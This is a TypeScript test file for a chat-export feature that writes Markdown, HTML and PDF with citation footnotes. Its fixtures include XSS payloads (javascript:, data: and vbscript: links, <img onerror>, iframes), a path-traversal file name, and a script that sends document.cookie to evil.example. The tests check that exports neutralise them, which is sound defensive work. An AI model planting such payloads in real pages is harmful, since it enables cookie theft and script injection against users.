import fs from 'node:fs';
import path from 'node:path';
import type { Nodes as MdastNodes } from 'mdast';
import { fromMarkdown } from 'mdast-util-from-markdown';
import { gfmFromMarkdown } from 'mdast-util-gfm';
import { gfm } from 'micromark-extension-gfm';
import { describe, expect, it } from 'vitest';
import type { ChatMessage, TurnInfo } from '../../../shared/chat-models';
import type { Passage } from '../../../shared/models';
import { sanitizeFileName, writeInside } from './files';
import { renderExport } from './handlers';
import { markdownToHtmlDocument } from './html';
import { isSafeUrl } from './links';
import type { ExportSource } from './markdown';
import { chromiumPdfRenderer, findChromium } from './pdf';
import { tempDir } from '../testing/temp';

function passage(n: number, over: Partial<Passage>): Passage {
  return {
    evidenceId: `e${n}`, pagePath: 'wiki/x.md', title: 'X', start: 0, end: 10, text: 'text', contentHash: 'h',
    provenance: { headingPath: [], pdfPages: null, lines: null }, hitReason: 'body',
    keywordRank: 1, keywordScore: 1, vectorRank: null, vectorDistance: null, rrfScore: 0.016, ...over,
  };
}

const passages: Passage[] = [
  passage(1, { pagePath: 'wiki/runbook.md', title: '连接超时', text: '默认超时是 30 秒。\n重试三次。', provenance: { headingPath: ['连接超时', 'Retry policy'], pdfPages: null, lines: null } }),
  passage(2, { pagePath: 'wiki/papers/rrf.pdf', title: 'Reciprocal Rank Fusion', text: 'RRF sums 1/(k + rank) over the lists.', provenance: { headingPath: [], pdfPages: [3, 4], lines: null } }),
];

function turn(content: string, citations: TurnInfo['citations']): TurnInfo {
  return {
    turnId: 't', status: 'complete', searched: true, trigger: 'default', passages, citations, references: [], decision: 'answered',
    searchError: null, model: 'qwen3:4b', timings: { totalMs: 1, searchMs: 1, firstTokenMs: 1 },
  };
  void content;
}

const answer1 = '超时是 30 秒 [1]，并结合 RRF [1, 2]。另见 [9]。';
const answer2 = '<script>alert(1)</script>Fusion uses k = 60 [2].';
const messages: ChatMessage[] = [
  { id: 'u1', conversationId: 'c1', role: 'user', content: 'E_CONN_RESET 超时多少？', createdAt: 't', turn: null },
  {
    id: 'a1', conversationId: 'c1', role: 'assistant', content: answer1, createdAt: 't',
    turn: turn(answer1, [
      { number: 1, valid: true, markerStart: 9, markerEnd: 12, quote: null, quoteVerified: null },
      { number: 1, valid: true, markerStart: 21, markerEnd: 27, quote: null, quoteVerified: null },
      { number: 2, valid: true, markerStart: 21, markerEnd: 27, quote: null, quoteVerified: null },
      { number: 9, valid: false, markerStart: 31, markerEnd: 34, quote: null, quoteVerified: null },
    ]),
  },
  { id: 'u2', conversationId: 'c1', role: 'user', content: 'And k?', createdAt: 't', turn: null },
  {
    id: 'a2', conversationId: 'c1', role: 'assistant', content: answer2, createdAt: 't',
    turn: turn(answer2, [{ number: 2, valid: true, markerStart: answer2.indexOf('[2]'), markerEnd: answer2.indexOf('[2]') + 3, quote: null, quoteVerified: null }]),
  },
];

const source: ExportSource = {
  conversation: { id: 'c1', kbId: 'k1', title: 'Timeouts / RRF', createdAt: 't', updatedAt: 't', messageCount: 4 },
  kbName: 'Ops',
  messages,
  exportedAt: '2026-11-29T12:00:00.000Z',
};

describe('export', () => {
  it('checks the fixture offsets', () => {
    expect(answer1.slice(9, 12)).toBe('[1]');
    expect(answer1.slice(21, 27)).toBe('[1, 2]');
    expect(answer1.slice(31, 34)).toBe('[9]');
  });

  it('writes Markdown with footnotes (quote, path, page or heading) and invalid citations marked unresolved', () => {
    expect(renderExport(source, 'md')).toBe(`# Timeouts / RRF

_由 Sift 导出于 2026-11-29 · 知识库“Ops”_

## E_CONN_RESET 超时多少？

超时是 30 秒 [^1]，并结合 RRF [^1][^2]。另见 \\[9：无效引用\\]。

## And k?

&lt;script>alert(1)&lt;/script>Fusion uses k = 60 [^3].

[^1]: “默认超时是 30 秒。 重试三次。”
    连接超时 — \`wiki/runbook.md\`，连接超时 › Retry policy

[^2]: “RRF sums 1/(k + rank) over the lists.”
    Reciprocal Rank Fusion — \`wiki/papers/rrf.pdf\`，第 3–4 页

[^3]: “RRF sums 1/(k + rank) over the lists.”
    Reciprocal Rank Fusion — \`wiki/papers/rrf.pdf\`，第 3–4 页
`);
  });

  it('exports one answer with its question only', () => {
    const md = renderExport({ ...source, messageId: 'a2' }, 'md');
    expect(md).toContain('# And k?\n\n_Exported from Sift on 2026-11-29 · knowledge base “Ops”_\n\n&lt;script>alert(1)&lt;/script>Fusion uses k = 60 [^1].');
    expect(md).not.toContain('E_CONN_RESET');
  });

  it('titles one exported answer with its own question, references as page names, in one language', () => {
    const question = { ...messages[0]!, content: '[[wiki/runbook.md]] 里的超时是多少？' };
    const one: ExportSource = { ...source, messages: [question, messages[1]!], messageId: 'a1' };
    const md = renderExport(one, 'md');
    expect(md.split('\n').slice(0, 3)).toEqual(['# runbook 里的超时是多少？', '', '_由 Sift 导出于 2026-11-29 · 知识库“Ops”_']);
    expect(md).not.toContain('Timeouts / RRF');
    expect(md).not.toMatch(/^## /m);
    expect(md).not.toMatch(/Exported|pp\.|unresolved/);
    expect(renderExport(one, 'html')).toContain('<title>runbook 里的超时是多少？</title>');
    const english = renderExport({ ...source, messages: messages.slice(2), messageId: 'a2' }, 'html');
    expect(english).toMatch(/<html lang="en">/);
    expect(english).toContain('pp. 3–4');
    expect(english).not.toMatch(/\p{Script=Han}/u);
  });

  it('marks an invalid citation as unresolved and quotes headings as plain text', () => {
    const headed = passage(1, { title: 'Runbook', text: '## Retry policy ##\nRetry **once**.\n# Limits\nC# and #tags stay.' });
    const answer = 'Retry once [1], see [99].';
    const t: TurnInfo = {
      ...turn(answer, []), passages: [headed],
      citations: [
        { number: 1, valid: true, markerStart: 11, markerEnd: 14, quote: null, quoteVerified: null },
        { number: 99, valid: false, markerStart: 20, markerEnd: 24, quote: null, quoteVerified: null },
      ],
    };
    const md = renderExport({ ...source, messages: [{ ...messages[2]!, content: 'Retry?' }, { ...messages[3]!, content: answer, turn: t }] }, 'md');
    expect(md).toContain('Retry once [^1], see \\[99: unresolved\\].');
    expect(md).toContain('[^1]: “Retry policy Retry \\*\\*once\\*\\*. Limits C# and #tags stay.”');
    expect(md.slice(md.indexOf('[^1]:'))).not.toContain('#'.repeat(2));
  });

  it('writes self-contained HTML: inline CSS, footnotes as anchors, no scripts', () => {
    const html = renderExport(source, 'html');
    expect(html).toMatch(/^<!doctype html>\n<html lang="zh-CN">/);
    expect(html).toContain('<title>Timeouts / RRF</title>');
    expect(html).toContain('<style>');
    expect(html).not.toMatch(/<script|<link|src="http/i);
    expect(html).toContain('<p>超时是 30 秒 <sup><a href="#user-content-fn-1" id="user-content-fnref-1" data-footnote-ref aria-describedby="footnote-label">1</a></sup>');
    expect(html).toContain('另见 [9：无效引用]。</p>');
    expect(html).toMatch(/<li id="user-content-fn-1">\s*<p>“默认超时是 30 秒。 重试三次。”\n连接超时 — <code>wiki\/runbook\.md<\/code>，连接超时 › Retry policy <a href="#user-content-fnref-1"/);
    expect(html).toContain('<h2 class="sr-only" id="footnote-label">来源</h2>');
    expect(html).toContain('<p>&#x3C;script>alert(1)&#x3C;/script>Fusion uses k = 60 <sup>');
  });

  it('sanitises file names', () => {
    expect(sanitizeFileName('Timeouts / RRF', 'md')).toBe('Timeouts RRF.md');
    expect(sanitizeFileName('../../etc/passwd', 'md')).toBe('etc passwd.md');
    expect(sanitizeFileName('..', 'html')).toBe('sift-export.html');
    expect(sanitizeFileName('CON', 'md')).toBe('CON-export.md');
    expect(sanitizeFileName('a\u0000b:c*?"<>|', 'pdf')).toBe('a b c.pdf');
    expect(sanitizeFileName('notes.md', 'md')).toBe('notes.md');
    expect([...sanitizeFileName('🙂 周报 '.repeat(40), 'md')].length).toBeLessThanOrEqual(120 + 3);
  });

  it('never writes outside the chosen folder or over an existing file', () => {
    const root = tempDir();
    const folder = path.join(root, 'exports');
    fs.mkdirSync(folder);
    expect(writeInside(folder, 'a.md', 'one')).toBe(path.join(fs.realpathSync(folder), 'a.md'));
    expect(writeInside(folder, 'a.md', 'two')).toBe(path.join(fs.realpathSync(folder), 'a (2).md'));
    expect(fs.readFileSync(path.join(folder, 'a.md'), 'utf8')).toBe('one');
    expect(() => writeInside(folder, '../escape.md', 'x')).toThrow(/would leave the folder/);
    expect(fs.existsSync(path.join(root, 'escape.md'))).toBe(false);
    expect(() => writeInside(path.join(root, 'missing'), 'a.md', 'x')).toThrow(/does not exist/);
  });

  it('prints a PDF with the machine Chromium, or says none was found', async () => {
    await expect(chromiumPdfRenderer(null)('<p>x</p>')).rejects.toMatchObject({ code: 'unsupported', message: expect.stringMatching(/needs Chromium/) });
    const chromium = findChromium();
    if (!chromium) return; // CI installs Chromium; a machine without it has just checked the message above
    const pdf = await chromiumPdfRenderer(chromium)(renderExport(source, 'html'));
    expect(pdf.subarray(0, 5).toString()).toBe('%PDF-');
    expect(pdf.length).toBeGreaterThan(1000);
  }, 60_000);
});

// Links an export must not keep, from the answer and from a quoted passage (issue #13 item 7).
const HOSTILE_ANSWER = [
  '[run](javascript:alert(3)) [data](data:text/html,<script>alert(4)</script>) [caps](JaVaScRiPt:alert(5))',
  '<javascript:alert(6)> ![img](data:image/svg+xml;base64,AAAA) [ref][x] [vb](vbscript:msgbox(7))',
  '[enc](jav&#x61;script:alert(8)) [space]( javascript:alert(9) )',
  '[nest [in](javascript:alert(11))](javascript:alert(12))',
  '[web](https://example.com/ok) [mail](mailto:a@example.com) [file](file:///etc/passwd)',
  'Source [1].',
  '',
  '[x]: javascript:alert(10)',
].join('\n');
const HOSTILE_PASSAGE = passage(1, {
  title: 'Links [t](javascript:alert(20))',
  text: 'Click [here](javascript:alert(21)) or <a href="javascript:alert(22)">there</a> or [d](data:text/html,x).',
});

function hostileSource(): ExportSource {
  const at = HOSTILE_ANSWER.indexOf('Source [1]') + 'Source '.length;
  const t: TurnInfo = {
    ...turn(HOSTILE_ANSWER, []), passages: [HOSTILE_PASSAGE],
    citations: [{ number: 1, valid: true, markerStart: at, markerEnd: at + 3, quote: null, quoteVerified: null }],
  };
  return {
    ...source,
    messages: [
      { id: 'u1', conversationId: 'c1', role: 'user', content: 'Links?', createdAt: 't', turn: null },
      { id: 'a1', conversationId: 'c1', role: 'assistant', content: HOSTILE_ANSWER, createdAt: 't', turn: t },
    ],
  };
}

/** The URLs of every link, image and definition in `markdown`, as a Markdown renderer reads them. */
function markdownUrls(markdown: string): string[] {
  const urls: string[] = [];
  const walk = (node: MdastNodes): void => {
    if (node.type === 'link' || node.type === 'image' || node.type === 'definition') urls.push(node.url);
    if ('children' in node) for (const child of node.children) walk(child);
  };
  walk(fromMarkdown(markdown, { extensions: [gfm()], mdastExtensions: [gfmFromMarkdown()] }));
  return urls;
}

const SAFE = /^(https?:|mailto:|#)/;

describe('export links', () => {
  it('keeps only http(s), mailto and anchor links in Markdown', () => {
    const md = renderExport(hostileSource(), 'md');
    const urls = markdownUrls(md);
    expect(urls.filter((u) => !SAFE.test(u))).toEqual([]);
    expect(urls).toEqual(expect.arrayContaining(['https://example.com/ok', 'mailto:a@example.com']));
    // The words stay, as text: nothing of the answer is lost.
    expect(md).toContain('run');
    expect(md).toContain('javascript:alert(3)');
    expect(md).toContain('Source [^1].');
  });

  it('keeps only http(s), mailto and anchor URLs in HTML, whatever the Markdown', () => {
    const htmlOf = [renderExport(hostileSource(), 'html'), markdownToHtmlDocument(HOSTILE_ANSWER, 'raw', 'en')];
    for (const html of htmlOf) {
      // Attributes of real tags; a quoted `<a href=…>` is text (`&#x3C;a href=…`) and may stay.
      const urls = [...html.matchAll(/<[a-z][^<>]*?\s(?:href|src)="([^"]*)"/g)].map((m) => m[1]!);
      expect(urls.filter((u) => !SAFE.test(u))).toEqual([]);
      expect(urls).toContain('https://example.com/ok');
      expect(html).not.toMatch(/<[a-z][^<>]*?\s(href|src)="\s*(javascript|data|vbscript|file):/i);
    }
    expect(htmlOf[0]).toContain('href="#user-content-fn-1"');
  });

  it('isSafeUrl refuses schemes hidden by case, spaces or control characters', () => {
    expect(['https://a.b', 'HTTP://a.b', 'mailto:x@y.z', '#fn-1'].map(isSafeUrl)).toEqual([true, true, true, true]);
    const unsafe = ['javascript:x', ' JavaScript:x', 'java\tscript:x', 'data:text/html,x', 'vbscript:x', 'file:///x'];
    unsafe.push('wiki/x.md', '');
    expect(unsafe.filter(isSafeUrl)).toEqual([]);
  });

  it('prints a PDF whose link actions are only http(s) or mailto', async () => {
    const chromium = findChromium();
    if (!chromium) return; // the HTML checked above is what the PDF is printed from
    const pdf = (await chromiumPdfRenderer(chromium)(renderExport(hostileSource(), 'html'))).toString('latin1');
    const uris = [...pdf.matchAll(/\/URI\s*\(([^)]*)\)/g)].map((m) => m[1]!);
    expect(uris).toContain('https://example.com/ok');
    expect(uris.filter((u) => !/^(https?:|mailto:)/.test(u))).toEqual([]);
    expect(pdf).not.toMatch(/\/URI\s*\(\s*(javascript|data|vbscript|file):/i);
  }, 60_000);
});

describe('export of raw HTML in an answer (issue #27 item 3)', () => {
  it('shows <script>, <img onerror> and <iframe> as text in Markdown, and leaves code alone', () => {
    const answer = [
      'Before <img src=x onerror="alert(1)"> inline [1].',
      '',
      '<script>fetch("https://evil.example/?c=" + document.cookie)</script>',
      '',
      '<iframe src="https://evil.example"></iframe>',
      '',
      'Code stays: `<b>bold</b>` and',
      '',
      '```html',
      '<script>kept()</script>',
      '```',
    ].join('\n');
    const at = answer.indexOf('[1]');
    const t: TurnInfo = {
      ...turn(answer, []), passages: [passage(1, { text: 'A passage.' })],
      citations: [{ number: 1, valid: true, markerStart: at, markerEnd: at + 3, quote: null, quoteVerified: null }],
    };
    const src: ExportSource = { ...source, messages: [{ id: 'a1', conversationId: 'c1', role: 'assistant', content: answer, createdAt: 't', turn: t }] };
    const md = renderExport(src, 'md');
    expect(md).toContain('Before &lt;img src=x onerror="alert(1)"> inline [^1].');
    expect(md).toContain('&lt;script>fetch("https://evil.example/?c=" + document.cookie)&lt;/script>');
    expect(md).toContain('&lt;iframe src="https://evil.example">&lt;/iframe>');
    expect(md).toContain('Code stays: `<b>bold</b>` and');
    expect(md).toContain('```html\n<script>kept()</script>\n```');
    // Rendered by a Markdown viewer, no element comes of it: the parser sees no raw HTML left.
    const html: string[] = [];
    const walk = (node: MdastNodes): void => {
      if (node.type === 'html') html.push(node.value);
      if ('children' in node) for (const child of node.children) walk(child);
    };
    walk(fromMarkdown(md, { extensions: [gfm()], mdastExtensions: [gfmFromMarkdown()] }));
    expect(html).toEqual([]);
  });
});

describe('export of answers quoting code', () => {
  it('ends a fence the answer never closed at its paragraph, so its footnotes survive', () => {
    const answer = 'It quotes:\n```ts\nUser.parse(x) [9]\n\nUse safeParse [1].';
    const at = answer.indexOf('[1]');
    const text = '  return User.parse(x);\n}\n```\n\n# Parse\n<b>throws</b> [2]';
    const cut = passage(1, { title: 'Zod `safe`', text });
    const t: TurnInfo = {
      ...turn(answer, []), passages: [cut],
      citations: [{ number: 1, valid: true, markerStart: at, markerEnd: at + 3, quote: null, quoteVerified: null }],
    };
    const src: ExportSource = {
      ...source,
      messages: [{ id: 'a1', conversationId: 'c1', role: 'assistant', content: answer, createdAt: 't', turn: t }],
    };
    const md = renderExport(src, 'md');
    expect(md).toContain('```ts\nUser.parse(x) [9]\n```\n\nUse safeParse [^1].');
    const footnote = '[^1]: “return User.parse(x); } \\`\\`\\` Parse \\<b>throws\\</b> \\[2\\]”';
    expect(md).toContain(`${footnote}\n    Zod \\\`safe\\\` — `);
    const html = renderExport(src, 'html');
    expect(html).toContain('<p>Use safeParse <sup><a href="#user-content-fn-1"');
    const quoted = '“return User.parse(x); } ``` Parse &#x3C;b>throws&#x3C;/b> [2]”';
    expect(html.slice(html.indexOf('<li id="user-content-fn-1">'))).toContain(`<p>${quoted}`);
  });
});

describe('export of passages from versions of a document', () => {
  it('names each cited passage’s version status and label in its footnote, in the export’s language', () => {
    const old = passage(1, {
      pagePath: 'wiki/差旅报销政策（2023版）.md', title: '差旅报销政策（2023版）', text: '每晚最高 400 元。',
      version: { status: 'superseded', label: '(2023版)', effective: null, expires: null, supersededBy: 'wiki/差旅报销政策（2024版）.md' },
    });
    const current = passage(2, {
      pagePath: 'wiki/travel-policy-v2.md', title: 'Travel policy', text: 'Up to 150 dollars.',
      version: { status: 'current', label: 'v2', effective: '2024-01-01', expires: null, supersededBy: null },
    });
    const content = 'Before: 400 [1]. Now: 150 [2].';
    const citations = [1, 2].map((number) => {
      const at = content.indexOf(`[${number}]`);
      return { number, valid: true, markerStart: at, markerEnd: at + 3, quote: null, quoteVerified: null };
    });
    const withVersions = (question: string): ExportSource => ({
      ...source,
      messages: [
        { id: 'u', conversationId: 'c1', role: 'user', content: question, createdAt: 't', turn: null },
        { id: 'a', conversationId: 'c1', role: 'assistant', content, createdAt: 't', turn: { ...turn(content, citations), passages: [old, current] } },
      ],
    });
    const en = renderExport(withVersions('Hotel limit?'), 'md');
    expect(en).toContain('差旅报销政策（2023版） — `wiki/差旅报销政策（2023版）.md`, superseded version (2023版)\n');
    expect(en).toContain('Travel policy — `wiki/travel-policy-v2.md`, current version v2\n');
    const zh = renderExport(withVersions('住宿标准？'), 'md');
    expect(zh).toContain('差旅报销政策（2023版） — `wiki/差旅报销政策（2023版）.md`，已被取代的版本 (2023版)\n');
    expect(renderExport(withVersions('Hotel limit?'), 'html')).toContain('superseded version (2023版)');
  });
});
